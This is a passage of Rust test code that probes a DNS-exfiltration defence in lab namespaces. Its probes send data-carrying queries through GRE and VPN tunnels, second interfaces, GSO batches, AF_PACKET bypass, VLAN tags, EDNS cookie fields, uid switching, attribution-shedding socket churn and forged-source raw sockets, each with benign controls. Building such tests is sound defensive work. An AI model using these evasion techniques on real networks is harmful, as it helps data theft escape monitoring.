        let wrap = |dns: &[u8], sport: u16| -> Vec<u8> {
            if word == "sit" {
                return ipv6_udp(CLIENT6, SERVER6, sport, 53, dns);
            }
            let ip = ipv4_udp(CLIENT, SERVER, sport, 53, dns);
            match word {
                "gre" => gre(0x0800, None, &ip),
                "grekey" => gre(0x0800, Some(key), &ip),
                "gretap" => gre(0x6558, None, &frame(w.server_mac, w.client_mac, &[], &ip)),
                _ => ip,
            }
        };
        let n = p.name(word);
        let pkt = wrap(&query(rng.random(), &n), rng.random_range(20000..60000));
        let r = sock
            .as_ref()
            .map_err(again)
            .and_then(|fd| sendto_ip(fd, &pkt, SERVER));
        p.control_refusable(&format!("benign query inside {variant}"), &n, r);
        for _ in 0..2 {
            let (label, name) = p.tunnel(rng);
            let pkt = wrap(&query(rng.random(), &name), rng.random_range(20000..60000));
            let r = sock
                .as_ref()
                .map_err(again)
                .and_then(|fd| sendto_ip(fd, &pkt, SERVER));
            p.secret(variant, &label, &name, r);
            pause(30);
        }
    }
}

/// Probe 7: A userspace VPN: 10.66.0.2/32 routed into a tun device; a thread reads IP packets from
/// the tun and forwards each, wrapped in UDP, to SERVER:51820. Queries go to 10.66.0.2:53.
fn userspace_vpn(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let ns = w.ns();
    let dev = format!("tn{}", w.lab.id);
    let tun = match in_netns(&ns, || open_tun(&dev)) {
        Ok(t) => t,
        Err(e) => {
            p.problems.push(format!("cannot open a tun device: {e}"));
            return;
        }
    };
    sh(&format!(
        "ip -n {ns} addr add 10.66.0.1/32 dev {dev} && ip -n {ns} link set {dev} up && \
         ip -n {ns} route add {VPN_DST}/32 dev {dev} src 10.66.0.1"
    ));
    let out = w.udp4();
    let stop = Arc::new(AtomicBool::new(false));
    let forwarder = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || forward(tun, out, &stop))
    };
    let app = w.udp4();
    let dst = (VPN_DST, 53);
    let ctl = p.name("www");
    p.control(
        "benign query through the VPN",
        &ctl,
        send(&app, dst, &query(rng.random(), &ctl)),
    );
    for _ in 0..4 {
        let (label, name) = p.tunnel(rng);
        let r = send(&app, dst, &query(rng.random(), &name));
        p.secret(
            "query to 10.66.0.2:53 via tun, wrapped in UDP/51820",
            &label,
            &name,
            r,
        );
        pause(30);
    }
    pause(800);
    stop.store(true, Ordering::Relaxed);
    let n = forwarder.join().expect("VPN forwarder");
    p.notes.push(format!(
        "the VPN forwarded {n} packets from {dev} to {SERVER}:{VPN_PORT}"
    ));
}

/// Reads IP packets from the tun device and sends each as the payload of a UDP datagram (the
/// tun device goes away when `tun` is dropped, at the end).
fn forward(tun: OwnedFd, out: UdpSocket, stop: &AtomicBool) -> usize {
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut buf = vec![0u8; 65536];
    let mut n = 0;
    while !stop.load(Ordering::Relaxed) && Instant::now() < deadline {
        let mut pfd = libc::pollfd {
            fd: tun.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one valid pollfd, a bounded timeout.
        if unsafe { libc::poll(&mut pfd, 1, 50) } <= 0 {
            continue;
        }
        // SAFETY: buf is writable for its whole length.
        let r = unsafe { libc::read(tun.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
        if r > 0 && out.send_to(&buf[..r as usize], (SERVER, VPN_PORT)).is_ok() {
            n += 1;
        }
    }
    n
}

/// Probe 8: A second veth between client and server that is not in `--iface`: queries routed over
/// it, sent with SO_BINDTODEVICE to it (also to the protected resolver's address), and IPv6 over
/// it.
fn second_interface(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let dev = w.iface2.clone();
    let routed = w.udp4();
    let bound = in_netns(&w.ns(), || {
        let s = UdpSocket::bind("0.0.0.0:0")?;
        setsockopt_bytes(&s, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, dev.as_bytes())?;
        Ok::<_, io::Error>(s)
    });
    let v6 = w.udp6();
    let to2 = SocketAddr::from((IFACE2_SERVER, 53));
    let to2v6 = SocketAddr::from((IFACE2_SERVER6, 53));
    let via_bound =
        |dst: SocketAddr, m: &[u8]| bound.as_ref().map_err(again).and_then(|s| send(s, dst, m));

    let n = p.name("www");
    p.control(
        "benign query routed over the second veth",
        &n,
        send(&routed, to2, &query(rng.random(), &n)),
    );
    let n = p.name("mail");
    p.control(
        "benign query with SO_BINDTODEVICE to the second veth",
        &n,
        via_bound(to2, &query(rng.random(), &n)),
    );
    let n = p.name("ns");
    // the link is new: its first IPv6 packet can be lost to neighbour discovery, so the
    // control retries once, as a stub resolver would
    let q = query(rng.random(), &n);
    let r = send(&v6, to2v6, &q).and_then(|()| {
        pause(300);
        send(&v6, to2v6, &q)
    });
    p.control("benign IPv6 query over the second veth", &n, r);
    for (variant, how) in [
        ("routed over the second veth (10.79.0.2)", 0),
        ("SO_BINDTODEVICE to the second veth (10.79.0.2)", 1),
        ("SO_BINDTODEVICE to the second veth, to 10.77.0.2", 2),
        ("IPv6 over the second veth (fd79::2)", 3),
    ] {
        for _ in 0..2 {
            let (label, name) = p.tunnel(rng);
            let m = query(rng.random(), &name);
            let r = match how {
                0 => send(&routed, to2, &m),
                1 => via_bound(to2, &m),
                2 => via_bound(SocketAddr::from((SERVER, 53)), &m),
                _ => send(&v6, to2v6, &m),
            };
            p.secret(variant, &label, &name, r);
            pause(30);
        }
    }
}

/// Probe 9: UDP GSO: one send with UDP_SEGMENT, segment 0 a benign query, segments 1-4 tunnel
/// queries (each message padded to the segment size with EDNS padding).
fn udp_gso(w: &World, p: &mut Probe, rng: &mut StdRng) {
    const SEG: usize = 128;
    let s = w.udp4();
    plain_control(p, &s, rng);
    // what a fix must keep working: GSO of non-DNS datagrams (QUIC does this all day)
    let quic = w.udp4();
    let segs: Vec<Vec<u8>> = (0..4).map(|_| b32(rng, 256).into_bytes()).collect();
    let r = setsockopt(&quic, libc::SOL_UDP, libc::UDP_SEGMENT, &256)
        .and_then(|_| send(&quic, (SERVER, 443), &segs.concat()));
    p.control_data(
        "4 × 256-byte non-DNS segments to UDP/443 in one UDP_SEGMENT send (QUIC-like)",
        segs,
        r,
        false,
    );
    let gso = w.udp4();
    let seg_ok = setsockopt(
        &gso,
        libc::SOL_UDP,
        libc::UDP_SEGMENT,
        &(SEG as libc::c_int),
    );
    if let Err(e) = &seg_ok {
        p.problems.push(format!("UDP_SEGMENT refused: {e}"));
    }
    let names: Vec<String> = ["one", "two", "three", "four"]
        .iter()
        .map(|x| p.name(x))
        .collect();
    let batch: Vec<u8> = names
        .iter()
        .flat_map(|n| Msg::query(rng.random(), n).padded(SEG))
        .collect();
    let r = send(&gso, (SERVER, 53), &batch);
    p.checks_info(Check {
        what: "4 benign queries in one UDP_SEGMENT send".into(),
        queries: names,
        bytes: Vec::new(),
        sent: sent(r),
        refusable: false,
    });
    for _ in 0..2 {
        let mut batch = Msg::query(rng.random(), &p.name("lead")).padded(SEG);
        let mut tunnels = Vec::new();
        for _ in 0..4 {
            let (label, name) = p.tunnel(rng);
            batch.extend(Msg::query(rng.random(), &name).padded(SEG));
            tunnels.push((label, name));
        }
        let r = sent(send(&gso, (SERVER, 53), &batch));
        for (label, name) in tunnels {
            p.secret_sent(
                "segments 1-4 of a UDP_SEGMENT send whose segment 0 is benign",
                &label,
                &name,
                r.clone(),
            );
        }
        pause(50);
    }
}

/// Probe 10: AF_PACKET with PACKET_QDISC_BYPASS sending whole Ethernet frames with tunnel queries
/// (after the fix: the option is refused with EPERM, or nothing arrives). Control: a benign frame
/// on AF_PACKET without the bypass.
fn af_packet(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let ifindex = w.client_ifindex;
    let frame_for = |name: &str, rng: &mut StdRng| {
        let ip = ipv4_udp(
            CLIENT,
            SERVER,
            rng.random_range(20000..60000),
            53,
            &query(rng.random(), name),
        );
        frame(w.server_mac, w.client_mac, &[], &ip)
    };
    let plain = in_netns(&w.ns(), move || packet_socket(ifindex));
    let n = p.name("www");
    let f = frame_for(&n, rng);
    let r = plain.as_ref().map_err(again).and_then(|fd| send_fd(fd, &f));
    p.control("benign frame on AF_PACKET without the bypass", &n, r);
    for _ in 0..2 {
        let (label, name) = p.tunnel(rng);
        let f = frame_for(&name, rng);
        let r = plain.as_ref().map_err(again).and_then(|fd| send_fd(fd, &f));
        p.secret(
            "AF_PACKET without the bypass (tc sees it)",
            &label,
            &name,
            r,
        );
    }
    // a virtio-net header lets AF_PACKET hand tc one GSO super-packet whose segments it has
    // not counted yet: refused like the bypass
    let vnet = in_netns(&w.ns(), move || {
        let fd = packet_socket(ifindex)?;
        setsockopt(&fd, libc::SOL_PACKET, PACKET_VNET_HDR, &1)
    });
    match vnet {
        Ok(()) => p
            .problems
            .push("setsockopt(PACKET_VNET_HDR) accepted: AF_PACKET GSO sends are open".into()),
        Err(e) => p
            .notes
            .push(format!("setsockopt(PACKET_VNET_HDR) refused: {e}")),
    }
    let bypass = in_netns(&w.ns(), move || {
        let fd = packet_socket(ifindex)?;
        setsockopt(&fd, libc::SOL_PACKET, PACKET_QDISC_BYPASS, &1)?;
        Ok::<_, io::Error>(fd)
    });
    p.notes.push(match &bypass {
        Ok(_) => "setsockopt(PACKET_QDISC_BYPASS) accepted".into(),
        Err(e) => format!("setsockopt(PACKET_QDISC_BYPASS) refused: {e}"),
    });
    for _ in 0..3 {
        let (label, name) = p.tunnel(rng);
        let f = frame_for(&name, rng);
        let r = bypass
            .as_ref()
            .map_err(again)
            .and_then(|fd| send_fd(fd, &f));
        p.secret("AF_PACKET with PACKET_QDISC_BYPASS", &label, &name, r);
        pause(30);
    }
}

/// Probe 11: Real 802.1Q and 802.1ad+802.1Q (QinQ) tagged frames sent on the client veth through
/// AF_PACKET, and (beyond the brief, no control) a three-tag stack.
fn vlan_tags(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let ifindex = w.client_ifindex;
    let pk = in_netns(&w.ns(), move || packet_socket(ifindex));
    // (control word, variant, tags (TPID, VID), inner network 10.N.0.0, control asserted)
    type Tagging = (&'static str, &'static str, &'static [(u16, u16)], u8, bool);
    let kinds: [Tagging; 3] = [
        ("dotq", "802.1Q tag (VID 100)", &[(0x8100, 100)], 81, true),
        (
            "qinq",
            "802.1ad + 802.1Q tags (QinQ, VIDs 200/300)",
            &[(0x88a8, 200), (0x8100, 300)],
            82,
            true,
        ),
        (
            "triple",
            "three tags 802.1ad/802.1Q/802.1Q (beyond the brief)",
            &[(0x88a8, 200), (0x8100, 300), (0x8100, 400)],
            83,
            false,
        ),
    ];
    for (word, variant, tags, net, asserted) in kinds {
        let tagged = |name: &str, rng: &mut StdRng| {
            let ip = ipv4_udp(
                Ipv4Addr::new(10, net, 0, 1),
                Ipv4Addr::new(10, net, 0, 2),
                rng.random_range(20000..60000),
                53,
                &query(rng.random(), name),
            );
            frame(w.server_mac, w.client_mac, tags, &ip)
        };
        let n = p.name(word);
        let f = tagged(&n, rng);
        let r = pk.as_ref().map_err(again).and_then(|fd| send_fd(fd, &f));
        let what = format!("benign frame with {variant}");
        if asserted {
            p.control(&what, &n, r);
        } else {
            p.info(&what, &n, r);
        }
        for _ in 0..2 {
            let (label, name) = p.tunnel(rng);
            let f = tagged(&name, rng);
            let r = pk.as_ref().map_err(again).and_then(|fd| send_fd(fd, &f));
            p.secret(variant, &label, &name, r);
            pause(30);
        }
    }
}

/// Probe 15: Letter case and type: a name the agent clears but long enough to be held, then 20
/// case variants of it and the exact name asking 5 rare types. Each variant must be judged — an agent event for its DNS id, or held (the session's
/// summary counts holds: the name itself is one) — not passed silently by a case-insensitive allow
/// cache. Judged on the agent's JSON lines, from an agent session of its own (started after the
/// main one stops) so that its summary counts this probe only. Returns its lines.
fn letter_case(w: &World, p: &mut Probe, rng: &mut StdRng) -> Vec<Value> {
    let agent = Agent::start(&w.lab, &[]);
    let base = "www.documentation-portal.example.test";
    let s = w.udp4();
    let dst = (SERVER, 53);
    let id0: u16 = rng.random();
    p.control(
        "the name itself (held, judged, released)",
        base,
        send(&s, dst, &query(id0, base)),
    );
    // held, judged, released: the allow cache now has it
    pause(1500);
    let mut variants = BTreeSet::new();
    for _ in 0..1000 {
        if variants.len() == 20 {
            break;
        }
        let v: String = base
            .chars()
            .map(|c| {
                if rng.random() {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect();
        if v != base {
            variants.insert(v);
        }
    }
    let mut ids = Vec::new();
    for v in &variants {
        let id: u16 = rng.random();
        if let Err(e) = send(&s, dst, &query(id, v)) {
            p.problems.push(format!("variant {v} not sent: {e}"));
        }
        ids.push(id);
        pause(40);
    }
    // the exact name again, asking other types: the allow cache holds exact questions, so
    // each is judged too (keyed on the name alone, the type carried 16 bits unheld)
    for qtype in [10u16, 16, 99, 0x1234, 0xff00] {
        let id: u16 = rng.random();
        let mut m = Msg::query(id, base);
        m.qtype = qtype;
        if let Err(e) = send(&s, dst, &m.bytes()) {
            p.problems.push(format!("type {qtype} not sent: {e}"));
        }
        ids.push(id);
        pause(40);
    }
    pause(1500);
    let lines = agent.stop();
    let summary = lines.iter().find(|v| v["event"] == "summary");
    let holds = summary.and_then(|s| s["holds"].as_u64());
    let pass_allow = summary.and_then(|s| s["kernel"]["pass_allow"].as_u64());
    let base_event = query_events(&lines, base, id0) > 0;
    let by_event = ids
        .iter()
        .filter(|&&id| query_events(&lines, base, id) > 0)
        .count();
    if !base_event && holds.unwrap_or(0) == 0 {
        p.problems.push(format!(
            "the name itself ({base}) was neither held nor reported: the probe proves nothing"
        ));
    }
    // the name itself is one hold; the rest are variants
    let held_variants = holds
        .map_or(0, |h| (h as usize).saturating_sub(1))
        .min(ids.len());
    let judged = by_event.max(held_variants);
    p.unjudged = Some((ids.len() - judged, ids.len()));
    p.notes.push(format!(
        "{by_event} variants with an agent event; this session's summary: holds {}, kernel pass_allow {}",
        holds.map_or("?".into(), |h| h.to_string()),
        pass_allow.map_or("?".into(), |a| a.to_string())
    ));
    if let Some(v) = variants.iter().next() {
        p.notes.push(format!("variants like {v}"));
    }
    lines
}

/// Probe 14: data in the free fields of a plain query's OPT record: a fresh cookie (8 client +
/// 32 server bytes) in every query, under names the kernel passes as plain. Each query is
/// well formed: the kernel passed them all without an event, and the analytics never counted
/// a byte (on the old code all 40 arrived, nothing was convicted). Now a carrier its (client,
/// server) pair has not sent lately is held: the agent judges the name and counts the carrier
/// as information, so the zone is convicted after about 1 KiB and the rest is dropped.
/// Controls: a client keeping its cookie (dig, named: the first held and released, the rest
/// pass), and a query without OPT.
fn cookie_carrier(w: &World, p: &mut Probe, rng: &mut StdRng) {
    let s = w.udp4();
    let dst = (SERVER, 53);
    let kept: [u8; 8] = rng.random();
    let words = ["www", "mail", "ftp"];
    for word in words {
        let n = format!("{word}.kept-{}.test", p.slug);
        let m = Msg::query(rng.random(), &n).opt(&[(10, &kept)]).bytes();
        p.control("a client keeping its cookie", &n, send(&s, dst, &m));
        pause(30);
    }
    let n = p.name("ns");
    p.control(
        "plain query without OPT",
        &n,
        send(&s, dst, &query(rng.random(), &n)),
    );
    let mut carried = Vec::new();
    for i in 0..40 {
        let name = p.name(words[i % 3]);
        let data = b32(rng, 40).into_bytes();
        let m = Msg::query(rng.random(), &name).opt(&[(10, &data)]).bytes();
        if let Err(e) = send(&s, dst, &m) {
            p.problems.push(format!("cookie carrier {i} not sent: {e}"));
        }
        carried.push(data);
        pause(30);
    }
    let zone = format!("{}.test", p.slug);
    p.bounded.push(Bounded {
        what: format!("one zone ({zone})"),
        evidence: vec![
            format!("subdomain data to {zone}"),
            format!("new OPT carriers (cookie, client subnet) from {CLIENT} (uid 0) to {SERVER}"),
        ],
        carried,
        most: None,
    });
    // control: root's own dig to the server whose pair it spent: over its budget, the query
    // goes as its question alone (no OPT, no cookie) and dig is answered (dropped before, so
    // a monitoring dig a minute stopped working after an hour)
    dig_control(
        p,
        w,
        "root's dig to the server it spent its budget on (answered, cookie cut)",
        (0, SERVER.into(), "spent"),
    );
    // the same over IPv6, each query under a zone of its own and every fourth a reverse
    // lookup (found in review: the zone's tracker never counted these, the doorkeeper and
    // the lookup exemption let every one through); the data goes to the server's address,
    // and the budget is the (client, server) pair's. Each query is sent twice (found in
    // review: the kernel pinned a carrier when it held it, so the resend of one the agent
    // dropped passed: all 40 arrived)
    let s6 = w.udp6();
    carrier_batch(
        p,
        rng,
        &s6,
        "one zone per query, reverse lookups among them, each sent twice",
        2,
        |i| {
            let name = if i % 4 == 3 {
                format!("{i}.2.0.192.in-addr.arpa")
            } else {
                format!("www.cz{i}x.test")
            };
            (name, SERVER6)
        },
    );
    // spread: each carrier to another address of the server's IPv6 /64 (a server has 2^64
    // of them, and before each was a pair of its own with a budget of its own: found in
    // review); the budget keys an IPv6 server by its /64, and the client over all servers
    let (c, sv) = (w.lab.cns(), w.lab.sns());
    sh(&format!(
        "ip -n {c} -6 route add fd78::/64 dev {} && \
         for i in $(seq 1 40); do ip -n {sv} addr add fd78::$i/64 dev vs{} nodad || exit 1; done",
        w.lab.client_if(),
        w.lab.id
    ));
    pause(200);
    // a zone each, as above: the first batch's zone is convicted by now
    carrier_batch(p, rng, &s6, "a server address each, one /64", 1, |i| {
        (
            format!("www.sp{i}x.test"),
            Ipv6Addr::new(0xfd78, 0, 0, 0, 0, 0, 0, i + 1),
        )
    });
    // control: another user of the client's address (an admin's dig, a fresh cookie of its
    // own) to the server whose pair the probe (root) spent; the budgets are the user's, so
    // this one is judged on its name and released (on the old code, per address, dropped)
    dig_control(
        p,
        w,
        "another user's dig to the spent server (fresh cookie)",
        (65534, SERVER6.into(), "users"),
    );
    // a sender holding a subordinate uid range (rootless containers: no privilege needed)
    // sends each carrier from another uid of it, to a server whose pair root spent above;
    // the range is its owner's, one user: cut at the pair's 1 KiB (uid by uid, as first
    // built, 40 users of one carrier each: only the address's 4 users' worth bounded them,
    // and all 40 arrived)
    let mut carried = Vec::new();
    for i in 0..40u32 {
        let name = format!("www.su{i}x.test");
        let data = b32(rng, 40).into_bytes();
        let m = Msg::query(rng.random(), &name).opt(&[(10, &data)]).bytes();
        if let Err(e) = send_as(&w.ns(), SUBUID_FIRST + i, (SERVER, 53), &m) {
            p.problems
                .push(format!("subordinate-uid carrier {i} not sent: {e}"));
        }
        carried.push(data);
        pause(30);
    }
    p.bounded.push(Bounded {
        what: "a subordinate uid each".into(),
        evidence: vec![format!(
            "new OPT carriers (cookie, client subnet) from {CLIENT} (uid 65534) to {SERVER}"
        )],
        carried,
        most: None,
    });
    // control: a user outside the range, to the same server
    dig_control(
        p,
        w,
        "a user outside the range, to the same server",
        (65533, SERVER.into(), "other"),
    );
    // control: a daemon that drops privilege after its first send, on the same socket and
    // thread; its later sends are the new user's (the socket was kept as root's before, and
    // root's pair to this server is spent)
    let (first, n) = (p.name("priv"), format!("www.{}-dropped.test", p.slug));
    let later = Msg::query(rng.random(), &n)
        .opt(&[(10, &rng.random::<[u8; 8]>())])
        .bytes();
    let first_q = query(rng.random(), &first);
    let r = in_netns(&w.ns(), || {
        let s = UdpSocket::bind("0.0.0.0:0")?;
        s.send_to(&first_q, (SERVER, 53))?;
        pause(50);
        become_uid(65531)?;
        s.send_to(&later, (SERVER, 53)).map(drop)
    });
    p.control("a daemon's send after it dropped privilege", &n, r);
    shed_attribution(w, p, rng);
}

/// A sender that sheds its attribution to get a second budget: a user spends its pair's
/// budget on a connected socket, connects and closes 150 000 sockets (the cookie-keyed owner
/// records are an LRU of 65 536: its socket's was evicted, its later sends were unattributed
/// and charged to a fresh budget, ~22 of 40 arrived), then goes on on the same socket; and
/// root, whose pairs are spent, sends through a raw socket (no connect or sendmsg hook ever
/// saw it: unattributed, a fresh budget). Owners now live in the socket from its creation.
fn shed_attribution(w: &World, p: &mut Probe, rng: &mut StdRng) {
    const UID: u32 = 65530;
    let carriers = |rng: &mut StdRng, tag: &str| -> Vec<(Vec<u8>, Vec<u8>)> {
        (0..40)
            .map(|i| {
                let data = b32(rng, 40).into_bytes();
                let name = format!("www.{tag}{i}x.test");
                let m = Msg::query(rng.random(), &name).opt(&[(10, &data)]).bytes();
                (data, m)
            })
            .collect()
    };
    let (first, then) = (carriers(rng, "ev"), carriers(rng, "sh"));
    let r = in_netns(&w.ns(), || -> io::Result<usize> {
        become_uid(UID)?;
        let s = UdpSocket::bind("0.0.0.0:0")?;
        s.connect((SERVER, 53))?;
        let mut failed = 0;
        for (_, m) in &first {
            failed += usize::from(s.send(m).is_err());
            pause(30);
        }
        for _ in 0..150_000 {
            let t = UdpSocket::bind("0.0.0.0:0")?;
            t.connect((SERVER, 9))?;
            // a second connect looks its record up: referenced, the records of the churn
            // are kept over older ones, which the LRU then evicts
            t.connect((SERVER, 9))?;
        }
        for (_, m) in &then {
            failed += usize::from(s.send(m).is_err());
            pause(30);
        }
        Ok(failed)
    });
    unsent(p, "churn-probe carriers", 80, r);
    let evidence = vec![format!(
        "new OPT carriers (cookie, client subnet) from {CLIENT} (uid {UID}) to {SERVER}"
    )];
    p.bounded.push(Bounded {
        what: format!("uid {UID} on a connected socket"),
        evidence: evidence.clone(),
        carried: first.into_iter().map(|c| c.0).collect(),
        most: None,
    });
    p.bounded.push(Bounded {
        what: format!("uid {UID}, the same socket after 150 000 sockets churned"),
        evidence,
        carried: then.into_iter().map(|c| c.0).collect(),
        most: Some(4),
    });
    // root's pair to SERVER6 is spent (the first IPv6 batch); a raw socket is root's too
    let raw = carriers(rng, "rw");
    let udp = |i: usize, m: &[u8]| {
        let mut d = Vec::with_capacity(8 + m.len());
        d.extend_from_slice(&(40_000 + i as u16).to_be_bytes());
        d.extend_from_slice(&53u16.to_be_bytes());
        d.extend_from_slice(&(8 + m.len() as u16).to_be_bytes());
        d.extend_from_slice(&[0, 0]);
        d.extend_from_slice(m);
        d
    };
    let msgs: Vec<Vec<u8>> = raw.iter().enumerate().map(|(i, c)| udp(i, &c.1)).collect();
    send_each(
        p,
        &w.ns(),
        "raw-socket carriers",
        &msgs,
        || {
            let fd = socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_UDP)?;
            // the kernel fills in the UDP checksum at offset 6
            setsockopt(&fd, libc::IPPROTO_IPV6, libc::IPV6_CHECKSUM, &6i32)?;
            Ok(fd)
        },
        |fd, d| sendto_ip6(fd, d, SERVER6),
    );
    // root again, through a raw socket writing its own IP header, each carrier from another
    // source address (budgets keyed by source address: each forged address had fresh ones,
    // all 40 arrived); a local sender's budgets are its user's on this host
    let forged = carriers(rng, "fg");
    let forge = |i: usize, base: u8, m: &[u8]| {
        let src = Ipv4Addr::new(10, 77, 0, base + i as u8);
        ipv4_udp(src, SERVER, 41_000 + u16::from(base) + i as u16, 53, m)
    };
    let msgs: Vec<Vec<u8>> = forged
        .iter()
        .enumerate()
        .map(|(i, c)| forge(i, 100, &c.1))
        .collect();
    send_each(
        p,
        &w.ns(),
        "forged-source carriers",
        &msgs,
        || socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW),
        |fd, d| sendto_ip(fd, d, SERVER),
    );
    let evidence = vec![format!("(uid 0) to {SERVER}: over the information budget")];
    p.bounded.push(Bounded {
        what: "root, a forged source address each (IP_HDRINCL)".into(),
        evidence: evidence.clone(),
        carried: forged.into_iter().map(|c| c.0).collect(),
        most: Some(4),
    });
    // and through AF_PACKET (no inet socket: no creation hook, no connect or sendmsg hook
    // ever saw it), a forged source each: unattributed, keyed by each forged address, all 40
    // arrived; the socket's own uid (sk_uid) is its owner now
    let (ifindex, smac, cmac) = (w.client_ifindex, w.server_mac, w.client_mac);
    let framed = carriers(rng, "pk");
    let msgs: Vec<Vec<u8>> = framed
        .iter()
        .enumerate()
        .map(|(i, c)| frame(smac, cmac, &[], &forge(i, 150, &c.1)))
        .collect();
    send_each(
        p,
        &w.ns(),
        "AF_PACKET carriers",
        &msgs,
        || packet_socket(ifindex),
        send_fd,
    );
    p.bounded.push(Bounded {
        what: "root through AF_PACKET, a forged source address each".into(),
        evidence,
        carried: framed.into_iter().map(|c| c.0).collect(),
        most: Some(4),
    });
    p.bounded.push(Bounded {
        what: "root through a raw socket".into(),
        evidence: vec![format!(
            "new OPT carriers (cookie, client subnet) from {CLIENT6} (uid 0) to {}/64",
            Ipv6Addr::from(u128::from(SERVER6) & !((1u128 << 64) - 1))
        )],
        carried: raw.into_iter().map(|c| c.0).collect(),
        most: Some(4),
    });
}

/// Sends `msgs` one by one through what `open` makes, on a thread in namespace `ns`, 30 ms
/// apart; a raw or packet socket is told of a held datagram (ENOBUFS: the kernel took it),
/// which counts as sent. What was not sent is one of the probe's problems.
fn send_each<S>(
    p: &mut Probe,
    ns: &str,
    what: &str,
    msgs: &[Vec<u8>],
    open: impl FnOnce() -> io::Result<S> + Send,
    send: impl Fn(&S, &[u8]) -> io::Result<()> + Sync,
) {
    let r = in_netns(ns, || -> io::Result<usize> {
        let s = open()?;
        let mut failed = 0;
        for m in msgs {
            match send(&s, m) {
                Err(e) if e.raw_os_error() != Some(libc::ENOBUFS) => failed += 1,
                _ => {}
            }
            pause(30);
        }
        Ok(failed)
    });
    unsent(p, what, msgs.len(), r);
}

/// A batch's failures (`r`: how many of `total` were not sent) as the probe's problems.
fn unsent(p: &mut Probe, what: &str, total: usize, r: io::Result<usize>) {
    match r {
        Ok(0) => {}
        Ok(n) => p.problems.push(format!("{what}: {n} of {total} not sent")),
        Err(e) => p.problems.push(format!("{what}: {e}")),
    }
}

/// One datagram from namespace `ns` sent by a thread running as `uid` (the raw syscall
/// changes the calling thread only; the thread ends with the send).
fn send_as(ns: &str, uid: u32, dst: (Ipv4Addr, u16), b: &[u8]) -> io::Result<()> {
    in_netns(ns, || {
        become_uid(uid)?;
        let s = UdpSocket::bind("0.0.0.0:0")?;
        s.send_to(b, dst).map(drop)
    })
}

/// Makes the calling thread (alone: the raw syscall, not libc's process-wide wrapper) run as
/// `uid`, for good: call it on a thread that ends with its work (`in_netns`).
fn become_uid(uid: u32) -> io::Result<()> {
    // SAFETY: setresuid on this thread alone; no memory is touched.
    if unsafe { libc::syscall(libc::SYS_setresuid, uid, uid, uid) } != 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(())
}

/// A control: `dig` as `uid` to `server` for www.<slug>-<tag>.test, which must be answered.
fn dig_control(p: &mut Probe, w: &World, what: &str, (uid, server, tag): (u32, IpAddr, &str)) {
    let n = format!("www.{}-{tag}.test", p.slug);
    p.control(what, &n, dig_as(&w.ns(), uid, &server.to_string(), &n));
}

/// `dig` from namespace `ns` as user `uid`: one try, its default OPT and fresh client cookie;
/// Ok once dig got an answer (whatever its status).
fn dig_as(ns: &str, uid: u32, server: &str, name: &str) -> io::Result<()> {
    let out = Command::new("nsenter")
        .arg(format!("--net=/run/netns/{ns}"))
        .args(["--setuid", &uid.to_string(), "--setgid", &uid.to_string()])
        .args([
            "dig",
            &format!("@{server}"),
            "+tries=1",
            "+time=2",
            name,
            "A",
        ])
        .output()?;
    let text = String::from_utf8_lossy(&out.stdout);
    if text.contains(";; ->>HEADER<<-") {
        Ok(())
    } else {
        Err(io::Error::other(format!(
            "dig as uid {uid} got no answer: {} {}",
            text.trim(),
            String::from_utf8_lossy(&out.stderr).trim()
        )))
    }
}

/// 40 queries from `s`, each carrying 40 bytes of data in a fresh cookie, query `i` under the
/// name and to the IPv6 server `to(i)` gives, each sent `tries` times: a channel the carrier
/// budget of the server's /64 must cut.
fn carrier_batch(
    p: &mut Probe,
    rng: &mut StdRng,
    s: &UdpSocket,
    what: &str,
    tries: usize,
    to: impl Fn(u16) -> (String, Ipv6Addr),
) {
    let mut carried = Vec::new();
    let mut nets = BTreeSet::new();
    for i in 0..40u16 {
        let (name, dst) = to(i);
        nets.insert(Ipv6Addr::from(u128::from(dst) & !((1u128 << 64) - 1)));
        let data = b32(rng, 40).into_bytes();
        let m = Msg::query(rng.random(), &name).opt(&[(10, &data)]).bytes();
        for _ in 0..tries {
            if let Err(e) = send(s, (dst, 53), &m) {
                p.problems
                    .push(format!("{what}: carrier {i} not sent: {e}"));
            }
            pause(30);
        }
        carried.push(data);
    }
    p.bounded.push(Bounded {
        what: what.into(),
        evidence: nets
            .iter()
            .map(|n| {
                format!("new OPT carriers (cookie, client subnet) from {CLIENT6} (uid 0) to {n}/64")
            })
            .collect(),
        carried,
        most: None,
    });
}

/// Agent query events for `name` (any letter case) with DNS id `id`.
fn query_events(lines: &[Value], name: &str, id: u16) -> usize {
    lines
        .iter()
        .filter(|v| {
            v["event"] == "query"
                && v["dns_id"].as_u64() == Some(u64::from(id))
                && v["name"]
                    .as_str()
                    .is_some_and(|n| n.trim_end_matches('.').eq_ignore_ascii_case(name))
        })
        .count()
}

// ------------------------------------------------------------------------- probe bookkeeping

/// How a send went. `denied`: refused at the socket (EPERM/EACCES). `dropped`: the kernel
/// reported the packet dropped on its way out (ENOBUFS: what AF_PACKET returns when tc drops
/// the frame) or the connection was reset under it. Either stops an attack; only a denial is
/// an acceptable outcome for a refusable control.
#[derive(Clone, Debug)]
struct Sent {
    err: Option<String>,
    denied: bool,
    dropped: bool,
}

fn sent<T>(r: io::Result<T>) -> Sent {
    match r {
        Ok(_) => Sent {
            err: None,
            denied: false,
            dropped: false,
        },
        Err(e) => Sent {
            denied: e.kind() == io::ErrorKind::PermissionDenied,
            dropped: e.raw_os_error() == Some(libc::ENOBUFS)
                || matches!(
                    e.kind(),
                    io::ErrorKind::ConnectionReset
                        | io::ErrorKind::ConnectionAborted
                        | io::ErrorKind::BrokenPipe
                ),
            err: Some(e.to_string()),
        },
    }
}

/// A channel the analytics must cut (see `Probe::bounded`).
struct Bounded {
    what: String,
    evidence: Vec<String>,
    carried: Vec<Vec<u8>>,
    /// At most this many may arrive: a sender whose budget is already spent.
    most: Option<usize>,
}

